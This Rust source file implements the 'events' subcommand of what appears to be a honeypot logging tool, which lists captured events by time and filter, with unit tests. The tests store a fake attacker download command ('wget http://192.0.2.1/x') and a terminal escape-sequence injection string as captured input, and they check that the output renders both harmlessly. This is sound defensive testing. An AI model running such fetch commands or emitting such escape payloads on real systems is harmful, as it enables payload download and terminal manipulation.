//! `otori events`: the stored events as lines, also while `otori up` runs.
//!
//! Key type: [`Arguments`]. Neighbours: [`filter`] is the language of `--where`, [`line`] what a person sees. JSON: one event
//! per line, `docs/schema/event.schema.json`.
mod filter;
mod line;

use crate::verb::Failure;
use anyhow::Context;
use filter::Filter;
use line::Paint;
use otori_event::{Event, Timestamp};
use otori_store::query::{EventFilter, EventQuery, Order};
use otori_store::{QueryLimit, Reader, StoreError};
use std::io::{self, BufWriter, ErrorKind, IsTerminal, Write};
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

/// Events read at a time.
const PAGE: usize = 500;
/// The longest that one page takes.
const PAGE_TIME_MAX: Duration = Duration::from_secs(60);

/// Arguments of `otori events`.
#[derive(clap::Args)]
pub struct Arguments {
    /// Print one JSON object per event
    #[arg(long)]
    json: bool,
    /// Only events from then on: RFC 3339 (2026-11-22T09:30:00Z) or back from now (90s, 15m, 2h, 7d)
    #[arg(long, value_name = "T", value_parser = parse_since)]
    since: Option<Since>,
    /// Only events for which this holds: FIELD = VALUE, FIELD != VALUE, FIELD ~ TEXT (holds the text, letter case ignored),
    /// joined by and, or, not and parentheses. Fields are those of the JSON, as kind, user, source.ip; a value with blanks
    /// stands in double quotes. Example: kind=command and line~"wget"
    #[arg(long = "where", value_name = "FILTER", value_parser = Filter::parse)]
    filter: Option<Filter>,
    /// Where everything is kept
    #[arg(long, value_name = "DIR", default_value = "otori-data")]
    data: PathBuf,
}

/// A point in time, or how long ago.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Since {
    At(Timestamp),
    Ago { seconds: i64 },
}

fn parse_since(text: &str) -> Result<Since, String> {
    if let Ok(at) = text.parse() {
        return Ok(Since::At(at));
    }
    let ago = || {
        let (number, unit) = text.split_at_checked(text.len().checked_sub(1)?)?;
        let unit_seconds = match unit {
            "s" => 1,
            "m" => 60,
            "h" => 3_600,
            "d" => 86_400,
            _ => return None,
        };
        let number = number.parse::<u32>().ok()?;
        Some(Since::Ago { seconds: i64::from(number) * unit_seconds })
    };
    ago().ok_or_else(|| {
        "give a time as 2026-11-22T09:30:00Z, or how long ago as 90s, 15m, 2h or 7d".to_owned()
    })
}

/// Prints the events, oldest first.
pub fn run(arguments: Arguments) -> anyhow::Result<ExitCode> {
    let reader = open(&arguments.data)?;
    let now = Timestamp(i64::try_from(SystemTime::now().duration_since(UNIX_EPOCH)?.as_nanos())?);
    let stdout = io::stdout().lock();
    let paint =
        Paint::of(stdout.is_terminal() && std::env::var_os("NO_COLOR").is_none_or(|value| value.is_empty()));
    let mut out = BufWriter::new(stdout);
    match print(&reader, &arguments, now, paint, &mut out).and_then(|()| Ok(out.flush()?)) {
        Err(error) if is_broken_pipe(&error) => Ok(ExitCode::SUCCESS), // `| head` has seen enough
        Err(error) => Err(error),
        Ok(()) => Ok(ExitCode::SUCCESS),
    }
}

fn open(data: &Path) -> anyhow::Result<Reader> {
    Reader::open(data).map_err(|error| {
        let text = format!("{error}; {}", error.remedy());
        match error {
            StoreError::Missing { .. } | StoreError::Newer { .. } => Failure::Unavailable(text).into(),
            _ => anyhow::anyhow!(text),
        }
    })
}

fn is_broken_pipe(error: &anyhow::Error) -> bool {
    error.downcast_ref::<io::Error>().is_some_and(|error| error.kind() == ErrorKind::BrokenPipe)
}

fn print(
    reader: &Reader,
    arguments: &Arguments,
    now: Timestamp,
    paint: Paint,
    out: &mut impl Write,
) -> anyhow::Result<()> {
    let since = arguments.since.map(|since| match since {
        Since::At(at) => at,
        Since::Ago { seconds } => now.plus_seconds(-seconds),
    });
    let filter = EventFilter { since, ..EventFilter::default() };
    let mut query = EventQuery { filter, order: Order::Oldest, limit: PAGE, cursor: None };
    loop {
        let page =
            reader.events(&query, &QueryLimit::new(PAGE_TIME_MAX)).context("the store cannot be read")?;
        for event in page.items.iter().filter(|event| since.is_none_or(|since| event.at >= since)) {
            print_event(event, arguments, paint, out)?;
        }
        match page.next {
            Some(next) => query.cursor = Some(next),
            None => return Ok(()),
        }
    }
}

fn print_event(
    event: &Event,
    arguments: &Arguments,
    paint: Paint,
    out: &mut impl Write,
) -> anyhow::Result<()> {
    if arguments.json || arguments.filter.is_some() {
        let json = serde_json::to_value(event)?;
        if arguments.filter.as_ref().is_some_and(|filter| !filter.holds(&json)) {
            return Ok(());
        }
        if arguments.json {
            writeln!(out, "{json}")?;
            return Ok(());
        }
    }
    line::write(event, paint, out)?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use otori_event::{EventId, EventKind, RawText, SessionId};
    use otori_store::Store;

    const NOON: Timestamp = Timestamp(1_795_348_800_000_000_000);

    fn command(seconds: i64, line: RawText) -> Event {
        let at = NOON.plus_seconds(seconds);
        let id = EventId::new(at, 5, 1);
        let product = "camera-mipsel".parse().ok();
        Event {
            id,
            at,
            product,
            session: Some(SessionId::new(5)),
            demo: false,
            kind: EventKind::Command { line },
        }
    }

    fn output(reader: &Reader, json: bool, since: Option<&str>, filter: Option<&str>) -> String {
        let arguments = Arguments {
            json,
            since: since.map(|since| parse_since(since).unwrap()),
            filter: filter.map(|filter| Filter::parse(filter).unwrap()),
            data: PathBuf::new(),
        };
        let mut out = Vec::new();
        print(reader, &arguments, NOON.plus_seconds(100), Paint::of(false), &mut out).unwrap();
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn events_are_read_beside_the_writer_and_shown_harmlessly() {
        let folder = tempfile::tempdir().unwrap();
        let (store, _) = Store::open(folder.path()).unwrap();
        let hostile = RawText::new(b"\x1b[2J\x1b]0;x\x07 \xe2\x80\xae\xff\0\n");
        let many = (0..1_200).map(|i| command(-3_000 + i, "id".into()));
        store.append(&many.collect::<Vec<_>>()).unwrap();
        store.append(&[command(50, hostile.clone()), command(60, "wget http://192.0.2.1/x".into())]).unwrap();
        let reader = open(folder.path()).unwrap();

        let text = output(&reader, false, Some("2m"), None);
        assert_eq!(text.lines().count(), 2, "{text}");
        assert!(
            text.contains("2026-11-22T12:00:50")
                && text.contains("camera-mipsel")
                && text.contains("\\x1b[2J")
        );
        assert!(!text.bytes().any(|byte| byte < 0x20 && byte != b'\n'), "{text:?}");
        assert!(!text.contains('\u{202e}'));
        let json = output(&reader, true, Some("2026-11-22T12:00:50Z"), None);
        let back: Vec<Event> = json.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        assert_eq!(back[0].kind, EventKind::Command { line: hostile });
        assert_eq!(output(&reader, true, None, None).lines().count(), 1_202, "all pages are read");
        assert_eq!(output(&reader, false, None, Some("line~WGET and kind=command")).lines().count(), 1);
    }

    #[test]
    fn a_folder_without_a_store_is_said_to_be_one() {
        let folder = tempfile::tempdir().unwrap();
        let error = open(folder.path()).unwrap_err();
        assert!(error.to_string().contains("otori up"), "{error}");
        assert_eq!(crate::verb::exit_code(&error), 5);
    }

    #[test]
    fn since_is_a_time_or_a_while_ago() {
        assert_eq!(parse_since("15m"), Ok(Since::Ago { seconds: 900 }));
        assert_eq!(parse_since("2026-11-22T12:00:00Z"), Ok(Since::At(NOON)));
        for wrong in ["", "m", "-5m", "5y", "５m", "99999999999h", "yesterday"] {
            assert!(parse_since(wrong).is_err(), "{wrong}");
        }
    }
}
